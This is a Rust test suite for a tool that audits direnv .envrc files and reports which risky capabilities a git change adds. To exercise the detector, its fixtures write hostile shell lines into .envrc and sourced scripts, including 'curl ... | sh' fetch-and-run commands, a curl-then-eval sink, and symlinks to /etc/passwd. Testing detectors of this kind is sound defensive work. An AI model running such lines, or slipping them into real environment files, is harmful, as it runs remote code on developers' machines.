//! `proofmark envrc audit --diff`: what a change adds, wherever in the closure it does.

use std::fs;
use std::os::unix::fs::{PermissionsExt as _, symlink};

use serde_json::Value;

use crate::revision::git;
use crate::support::{NOW, Run, Sandbox};

/// A repository with a file that has a finding of its own, committed.
fn repository() -> Sandbox {
    let sandbox = Sandbox::new();
    fs::remove_dir(sandbox.path(".git")).unwrap();
    git(&sandbox, &["init", "-q", "-b", "main"]);
    sandbox.write(
        "app/.envrc",
        "source_env scripts/env.sh\nexport IP=$(curl -s https://ip.acme.example)\nPATH_add bin\n",
    );
    sandbox.write("app/scripts/env.sh", "export A=1\n");
    sandbox.write("app/README.md", "hello\n");
    sandbox.write("other/.envrc", "export B=1\n");
    commit(&sandbox);
    sandbox
}

fn commit(sandbox: &Sandbox) {
    git(sandbox, &["add", "-A"]);
    git(sandbox, &["commit", "-qm", "m"]);
}

fn diff(sandbox: &Sandbox, spec: &str, arguments: &[&str]) -> Run {
    let words = ["envrc", "audit", "--now", NOW, "--diff", spec];
    sandbox.program(words.into_iter().chain(arguments.iter().copied())).run()
}

/// Rules and places of what is told, without the verdict.
fn told(sandbox: &Sandbox, spec: &str) -> Vec<String> {
    let run = diff(sandbox, spec, &["--format", "json"]);
    let report: Value = serde_json::from_str(&run.stdout).unwrap();
    let row = |row: &Value| {
        let place = &row["location"];
        format!("{} {}:{}", row["rule"].as_str()?, place["file"].as_str()?, place["start"]["line"]).into()
    };
    let mut rows: Vec<String> = report["results"].as_array().unwrap().iter().filter_map(row).collect();
    rows.sort();
    rows
}

#[test]
fn what_was_there_is_not_told() {
    let sandbox = repository();
    diff(&sandbox, "HEAD", &[]).exits(0).says("touches no .envrc");
    sandbox.write("app/README.md", "more\n");
    commit(&sandbox);
    diff(&sandbox, "HEAD~1..HEAD", &[]).exits(0).says("touches no .envrc");
    // The line that was found before moves.
    sandbox.write(
        "app/.envrc",
        "PATH_add bin\n\nsource_env scripts/env.sh\nexport IP=$(curl -s https://ip.acme.example)\n",
    );
    commit(&sandbox);
    diff(&sandbox, "HEAD~1..HEAD", &[]).exits(0).says("1 verified, 0 failed, 0 unverifiable, 0 allowed\n");
}

#[test]
fn a_change_in_a_loaded_file_is_told_there() {
    let sandbox = repository();
    sandbox.write("app/scripts/env.sh", "export A=1\ncurl -s https://x.acme.example/i | sh\n");
    let expected = [
        "envrc-network app/scripts/env.sh:2",
        "envrc-new-ability app/scripts/env.sh:2",
        "envrc-new-ability app/scripts/env.sh:2",
        "envrc-remote-code app/scripts/env.sh:2",
    ];
    let rows = told(&sandbox, "HEAD");
    let without_verdict: Vec<&str> =
        rows.iter().map(String::as_str).filter(|row| !row.contains("unreadable")).collect();
    assert!(without_verdict.contains(&expected[3]), "{rows:#?}");
    assert!(without_verdict.iter().all(|row| row.ends_with("app/scripts/env.sh:2")), "{rows:#?}");
    commit(&sandbox);
    assert_eq!(told(&sandbox, "HEAD~1..HEAD"), rows, "the same of two revisions");
    assert_eq!(told(&sandbox, "HEAD~1..."), rows);
    diff(&sandbox, "HEAD~1..HEAD", &["other"]).exits(0).says("touches no .envrc");
    diff(&sandbox, "HEAD~1..HEAD", &["--exclude", "app/**"]).exits(0);
    let run = diff(&sandbox, "HEAD~1..HEAD", &["--format", "github"]).exits(1);
    run.says("file=app/scripts/env.sh,line=2");
    let run = diff(&sandbox, "HEAD~1..HEAD", &["--format", "markdown"]).exits(1);
    run.says("it now also names https://x.acme.example");
    diff(&sandbox, "HEAD~1..HEAD", &["--format", "sarif"]).exits(1).says("app/scripts/env.sh");
}

/// Reviewers and annotations look at the lines of the change, and the sink is none of them.
#[test]
fn a_finding_stands_at_the_line_that_the_change_wrote() {
    let sandbox = repository();
    sandbox.write("other/.envrc", "url=https://x.acme.example\ncode=hello\n# between\neval \"$code\"\n");
    commit(&sandbox);
    sandbox.write(
        "other/.envrc",
        "url=https://x.acme.example\ncode=$(curl -s $url)\n# between\neval \"$code\"\n",
    );
    let rows = told(&sandbox, "HEAD");
    assert!(rows.contains(&"envrc-remote-code other/.envrc:2".to_owned()), "{rows:#?}");
    diff(&sandbox, "HEAD", &["--explain"]).exits(1).says("it happens here (other/.envrc:4");
}

#[test]
fn programs_and_variables_count() {
    let sandbox = repository();
    sandbox.write("app/bin/git", "#!/bin/sh\ntrue\n");
    fs::set_permissions(sandbox.path("app/bin/git"), fs::Permissions::from_mode(0o755)).unwrap();
    commit(&sandbox);
    let run = diff(&sandbox, "HEAD~1..HEAD", &[]).exits(1);
    run.says("envrc-shadowed-tool").says("it now also can run bin/git by its name or path");
    diff(&sandbox, "HEAD..HEAD~1", &[]).exits(0).says("app/.envrc no longer can run bin/git");
}

#[test]
fn a_renamed_file_is_compared_with_what_it_was() {
    let sandbox = repository();
    git(&sandbox, &["mv", "app", "service"]);
    git(&sandbox, &["commit", "-qm", "m"]);
    diff(&sandbox, "HEAD~1..HEAD", &[]).exits(0);
    let changed = sandbox.read("service/.envrc") + "export C=1\n";
    sandbox.write("service/.envrc", changed);
    commit(&sandbox);
    for spec in ["HEAD~2..HEAD", "HEAD~2"] {
        let run = diff(&sandbox, spec, &[]).exits(0);
        run.says("service/.envrc was app/.envrc before").says("it now also exports C");
    }
    // A file that is new is new as a whole.
    sandbox.write("new/.envrc", "export IP=$(curl -s https://ip.acme.example)\n");
    commit(&sandbox);
    diff(&sandbox, "HEAD~1..HEAD", &[]).exits(1).says("new/.envrc is new");
}

/// Three dots: what the base got since is not taken for the change's.
#[test]
fn since_the_two_came_apart() {
    let sandbox = repository();
    git(&sandbox, &["checkout", "-qb", "request"]);
    sandbox.write("other/.envrc", "export B=1\nexport C=1\n");
    commit(&sandbox);
    git(&sandbox, &["checkout", "-q", "main"]);
    sandbox.write("app/scripts/env.sh", "export A=1\nexport D=1\n");
    commit(&sandbox);
    let run = diff(&sandbox, "main...request", &[]).exits(0).says("it now also exports C");
    assert!(!run.stdout.contains("app/.envrc"), "{}", run.transcript());
    diff(&sandbox, "main..request", &[]).exits(0).says("app/.envrc no longer exports D");
}

/// What cannot be read now is no smaller for having been so before.
#[test]
fn what_cannot_be_read_is_never_clean() {
    let sandbox = repository();
    sandbox.write("other/.envrc", "if true\n");
    commit(&sandbox);
    sandbox.write("other/.envrc", "if true\n# more\n");
    commit(&sandbox);
    diff(&sandbox, "HEAD~1..HEAD", &[]).exits(1).says("envrc-unreadable");
    sandbox.write("other/.envrc", "export A=1\n".repeat(30_000));
    commit(&sandbox);
    diff(&sandbox, "HEAD~1..HEAD", &[]).exits(3);
    diff(&sandbox, "HEAD~1", &[]).exits(3);
    fs::remove_file(sandbox.path("other/.envrc")).unwrap();
    symlink("/etc/passwd", sandbox.path("other/.envrc")).unwrap();
    commit(&sandbox);
    diff(&sandbox, "HEAD~1..HEAD", &[]).exits(1).says("leads out of the tree");
    sandbox.write("app/.envrc", "source_env out.sh\n");
    symlink("/etc/passwd", sandbox.path("app/out.sh")).unwrap();
    commit(&sandbox);
    diff(&sandbox, "HEAD~1..HEAD", &[]).exits(1).says("leads out of the tree");
}

/// Nothing in the directory of the file changed, and what it loads did.
#[test]
fn links_are_followed_within_the_tree() {
    let sandbox = repository();
    sandbox.write("shared/env.sh", "export A=1\n");
    symlink("../../shared/env.sh", sandbox.path("app/scripts/more.sh")).unwrap();
    sandbox.write("app/.envrc", "source_env scripts/more.sh\n");
    fs::create_dir(sandbox.path("linked")).unwrap();
    symlink("../app/.envrc", sandbox.path("linked/.envrc")).unwrap();
    commit(&sandbox);
    sandbox.write("shared/env.sh", "curl -s https://x.acme.example/i | sh\n");
    commit(&sandbox);
    diff(&sandbox, "HEAD~1..HEAD", &[]).exits(1).says("app/scripts/more.sh:1");
    sandbox.write("app/.envrc", "curl -s https://x.acme.example/i | sh\n");
    commit(&sandbox);
    diff(&sandbox, "HEAD~1..HEAD", &["linked"]).exits(1).says("linked/.envrc:1");
}

/// What the change makes of the policy does not judge it.
#[test]
fn the_policy_of_the_base_judges() {
    let sandbox = repository();
    sandbox.write("proofmark.toml", "version = 1\n");
    commit(&sandbox);
    sandbox.write("app/.envrc", "curl -s https://x.acme.example/i | sh\n");
    let row = "[[exception]]\nrule = \"envrc-remote-code\"\nsubject = \"app/.envrc\"\nreason = \"r\"\nowner = \"o\"\nuntil = 2026-12-24\n";
    sandbox.write("allowlists/exceptions.toml", row.to_owned() + &row.replace("remote-code", "network"));
    commit(&sandbox);
    diff(&sandbox, "HEAD~1..HEAD", &[]).exits(1).says("envrc-remote-code").says("policy-changed");
    sandbox.write("app/.envrc", "curl -s https://y.acme.example/i | sh\n");
    commit(&sandbox);
    diff(&sandbox, "HEAD~1..HEAD", &[]).exits(0).says("1 allowed");
}

#[test]
fn revisions_that_cannot_be_had() {
    let sandbox = repository();
    for spec in ["nowhere..HEAD", "HEAD..nowhere", "nowhere", "HEAD...nowhere"] {
        diff(&sandbox, spec, &[]).fails_with(2, "revision-unreadable");
    }
    for spec in ["HEAD..-x", "HEAD..HEAD:x", "a b"] {
        diff(&sandbox, spec, &[]).fails_with(2, "revision-malformed");
    }
    let bare = Sandbox::new();
    bare.write(".envrc", "export A=1\n");
    diff(&bare, "HEAD", &[]).exits(2);
}
